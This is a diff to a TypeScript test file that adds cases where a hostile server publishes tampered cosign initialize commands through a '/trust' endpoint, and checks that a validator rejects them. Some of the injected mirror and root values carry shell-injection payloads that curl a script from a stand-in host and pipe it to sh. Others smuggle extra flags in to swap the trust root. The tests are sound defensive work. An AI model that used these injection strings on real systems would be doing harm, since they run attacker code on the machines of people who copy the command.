@@ -98,6 +98,12 @@ function indexOf(change: (tuf: Record<string, unknown>, files: { sha256: string 
 
 const lineTo = (mirror: string, sum: string) =>
   `cosign initialize --mirror ${mirror}/tuf --root ${mirror}/tuf/root.json --root-checksum ${sum}`;
+/** All of it follows from the rest, as the line must. */
+const madeOf = (mirror: string, root: string) => (tuf: Record<string, unknown>) => {
+  const cosign = `cosign initialize --mirror ${mirror} --root ${root} --root-checksum ${String(tuf["rootSha256"])}`;
+  Object.assign(tuf, { mirror, root, cosign });
+};
+const OWN = "https://drawn.example";
 
 /** What who has the server tells those who copy from `/trust`. */
 const MISLED: Record<string, [Parameters<typeof indexOf>[0], RegExp]> = {
@@ -124,6 +130,22 @@ const MISLED: Record<string, [Parameters<typeof indexOf>[0], RegExp]> = {
   "a word on another server": [
     (tuf) => Object.assign(tuf, { note: "we have moved: HTTPS://stranger.example/" }),
     /\/trust: names a server that the trust root does not/,
+  ],
+  "a mirror that carries another root and checksum": [
+    madeOf(`${OWN}/evil --root ${OWN}/evil.json --root-checksum ${STRANGER} #`, `${OWN}/tuf/root.json`),
+    /\/trust: tells a mirror that is none of its servers' \/tuf/,
+  ],
+  "a mirror that is a command to a shell": [
+    madeOf(`${OWN}/$(curl\t${OWN}/x|sh)/tuf`, `${OWN}/tuf/root.json`),
+    /\/trust: tells a mirror that is none of its servers' \/tuf/,
+  ],
+  "another server's mirror that is written as few read it,": [
+    madeOf("https:stranger.example/tuf", "https:stranger.example/tuf/root.json"),
+    /\/trust: tells a mirror that is none of its servers' \/tuf/,
+  ],
+  "a root that is a command to a shell": [
+    madeOf(`${OWN}/tuf`, `${OWN}/tuf/root.json;curl\t${OWN}/x|sh;`),
+    /\/trust: tells a root that is not its mirror's/,
   ],
   // In time that grows with the square of the word's length these would take longer than a test may.
   "a long word, and then a word on another server,": [
